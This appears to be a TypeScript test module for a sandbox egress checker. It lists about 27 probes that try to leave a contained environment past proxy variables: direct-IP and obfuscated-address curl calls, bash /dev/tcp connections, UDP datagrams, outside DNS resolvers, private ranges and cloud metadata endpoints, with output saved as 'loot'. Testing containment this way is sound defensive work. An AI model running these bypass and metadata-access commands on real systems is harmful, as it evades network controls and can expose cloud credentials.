// Techniques 43, 45, 47, 52: straight to an address, past every proxy variable. The world outside has a listener at every
// address and port, so what leaves is seen.

import { existsSync } from "node:fs";
import { aimOf } from "../../oracles.ts";
import type { After, Probe } from "../../probe.ts";

/** This system's own: one of a home or a checkout is not there inside. */
const node = "/usr/bin/node";

interface Way {
  readonly id: string;
  readonly technique: number;
  readonly title: string;
  readonly line: string;
  readonly ip: string;
  readonly port: number;
  readonly datagram?: true;
  readonly decisive?: true;
}

const talk = (ip: string, port: number): string =>
  `timeout 3 bash -c 'exec 3<>/dev/tcp/${ip}/${port}; echo EHLO >&3; read -t 1 -u 3 line'`;
const send = (ip: string, port: number): string =>
  `python3 -c 'import socket as s; s.socket(s.${ip.includes(":") ? "AF_INET6" : "AF_INET"}, s.SOCK_DGRAM).sendto(b"canary", ("${ip}", ${port}))'; sleep 0.2`;

const ways: readonly Way[] = [
  {
    id: "tcp-curl-noproxy",
    technique: 43,
    title: "curl --noproxy to an address",
    line: "curl -s -m 4 --noproxy '*' http://93.184.216.1:8080/",
    ip: "93.184.216.1",
    port: 8080,
    decisive: true,
  },
  {
    id: "tcp-env-i-curl",
    technique: 43,
    title: "curl without any variable, TLS, anybody's certificate",
    line: "env -i curl -sk -m 4 https://93.184.216.2/",
    ip: "93.184.216.2",
    port: 443,
    decisive: true,
  },
  {
    id: "tcp-curl-ipv6",
    technique: 43,
    title: "curl to an IPv6 address",
    line: "curl -s -m 4 --noproxy '*' 'http://[2606:2800:220:1::3]:8080/'",
    ip: "2606:2800:220:1::3",
    port: 8080,
    decisive: true,
  },
  {
    id: "tcp-curl-mapped",
    technique: 43,
    title: "IPv4 in IPv6",
    line: "curl -s -m 4 --noproxy '*' 'http://[::ffff:93.184.216.4]:8080/'",
    ip: "93.184.216.4",
    port: 8080,
  },
  {
    id: "tcp-curl-decimal",
    technique: 43,
    title: "an address as one number",
    line: "curl -s -m 4 --noproxy '*' http://1572395013:8080/",
    ip: "93.184.216.5",
    port: 8080,
  },
  {
    id: "tcp-bash-25",
    technique: 43,
    title: "bash's /dev/tcp, mail",
    line: talk("93.184.216.6", 25),
    ip: "93.184.216.6",
    port: 25,
  },
  {
    id: "tcp-bash-unlistened",
    technique: 78,
    title: "a port nobody expects",
    line: talk("93.184.216.7", 2526),
    ip: "93.184.216.7",
    port: 2526,
    decisive: true,
  },
  {
    id: "tcp-node-https",
    technique: 43,
    title: "Node's https to an address",
    line: `${node} -e 'require("https").get({host:"93.184.216.8",rejectUnauthorized:false,timeout:3000}).on("error",()=>0).on("timeout",()=>process.exit())'`,
    ip: "93.184.216.8",
    port: 443,
  },
  {
    id: "tcp-python",
    technique: 43,
    title: "Python's urllib without proxies",
    line: `python3 -c 'import urllib.request as r; r.build_opener(r.ProxyHandler({})).open("http://93.184.216.9:8080/", timeout=4)'`,
    ip: "93.184.216.9",
    port: 8080,
  },
  { id: "tcp-dot", technique: 45, title: "DNS over TLS", line: talk("1.1.1.1", 853), ip: "1.1.1.1", port: 853 },
  {
    id: "tcp-doh",
    technique: 45,
    title: "DNS over HTTPS",
    line: "curl -sk -m 4 --noproxy '*' 'https://1.1.1.1/dns-query?dns=AAAB'",
    ip: "1.1.1.1",
    port: 443,
  },
  {
    id: "tcp-dns",
    technique: 45,
    title: "DNS over TCP to an outside resolver",
    line: talk("8.8.4.4", 53),
    ip: "8.8.4.4",
    port: 53,
  },
  {
    id: "udp-quic",
    technique: 47,
    title: "QUIC's port",
    line: send("93.184.216.10", 443),
    ip: "93.184.216.10",
    port: 443,
    datagram: true,
    decisive: true,
  },
  {
    id: "udp-unlistened",
    technique: 78,
    title: "a datagram to a port nobody expects",
    line: send("93.184.216.11", 40_001),
    ip: "93.184.216.11",
    port: 40_001,
    datagram: true,
  },
  {
    id: "udp-ipv6",
    technique: 47,
    title: "a datagram to an IPv6 address",
    line: send("2606:2800:220:1::12", 443),
    ip: "2606:2800:220:1::12",
    port: 443,
    datagram: true,
  },
  {
    id: "udp-mdns",
    technique: 45,
    title: "multicast DNS",
    line: send("224.0.0.251", 5353),
    ip: "224.0.0.251",
    port: 5353,
    datagram: true,
  },
  {
    id: "private-10",
    technique: 52,
    title: "a private network",
    line: "curl -s -m 4 --noproxy '*' http://10.1.2.3/",
    ip: "10.1.2.3",
    port: 80,
    decisive: true,
  },
  {
    id: "private-172",
    technique: 52,
    title: "a private network",
    line: "curl -s -m 4 --noproxy '*' http://172.16.9.9/",
    ip: "172.16.9.9",
    port: 80,
  },
  {
    id: "private-192",
    technique: 52,
    title: "a private network",
    line: "curl -s -m 4 --noproxy '*' http://192.168.1.1/",
    ip: "192.168.1.1",
    port: 80,
  },
  {
    id: "private-cgnat",
    technique: 52,
    title: "shared address space",
    line: "curl -s -m 4 --noproxy '*' http://100.99.1.1/",
    ip: "100.99.1.1",
    port: 80,
  },
  {
    id: "private-benchmark",
    technique: 52,
    title: "the benchmarking network, which synthetic addresses are of",
    line: "curl -s -m 4 --noproxy '*' http://198.18.200.200/",
    ip: "198.18.200.200",
    port: 80,
  },
  {
    id: "private-ula",
    technique: 52,
    title: "a unique local IPv6 address",
    line: "curl -s -m 4 --noproxy '*' 'http://[fd12:3456::1]/'",
    ip: "fd12:3456::1",
    port: 80,
  },
  {
    id: "metadata-169",
    technique: 51,
    title: "a cloud's metadata service",
    line: "curl -s -m 4 --noproxy '*' http://169.254.169.254/latest/meta-data/",
    ip: "169.254.169.254",
    port: 80,
    decisive: true,
  },
  {
    id: "metadata-alibaba",
    technique: 51,
    title: "a cloud's metadata service",
    line: "curl -s -m 4 --noproxy '*' http://100.100.100.200/",
    ip: "100.100.100.200",
    port: 80,
  },
  {
    id: "metadata-azure",
    technique: 51,
    title: "a cloud's platform address",
    line: "curl -s -m 4 --noproxy '*' http://168.63.129.16/",
    ip: "168.63.129.16",
    port: 80,
  },
  {
    id: "metadata-oracle",
    technique: 51,
    title: "a cloud's metadata service",
    line: "curl -s -m 4 --noproxy '*' http://192.0.0.192/",
    ip: "192.0.0.192",
    port: 80,
  },
  {
    id: "metadata-ec2-ipv6",
    technique: 51,
    title: "a cloud's metadata service by IPv6",
    line: "curl -s -m 4 --noproxy '*' 'http://[fd00:ec2::254]/'",
    ip: "fd00:ec2::254",
    port: 80,
  },
];

function tryOne(way: Way): Probe {
  const { id, technique, title, line, ip, port } = way;
  return {
    id,
    technique,
    title: `${title} (${ip}:${port})`,
    source: "list",
    record: "must",
    ...(way.decisive === true ? { decisive: true } : {}),
    notHere: () => (line.startsWith(node) && !existsSync(node) ? "no Node of this system's own" : undefined),
    inside: () => `${line} > loot 2>&1`,
    landed: ({ seen }: After) =>
      seen.some((one) => (way.datagram === true ? one.kind === "datagram" : one.kind === "connection" && one.ip === ip))
        ? `${ip}:${port} was reached`
        : undefined,
    entry: (entry) => aimOf(entry).ip === ip && aimOf(entry).port === port,
    named: () => ip,
  };
}

export const direct: readonly Probe[] = ways.map(tryOne);
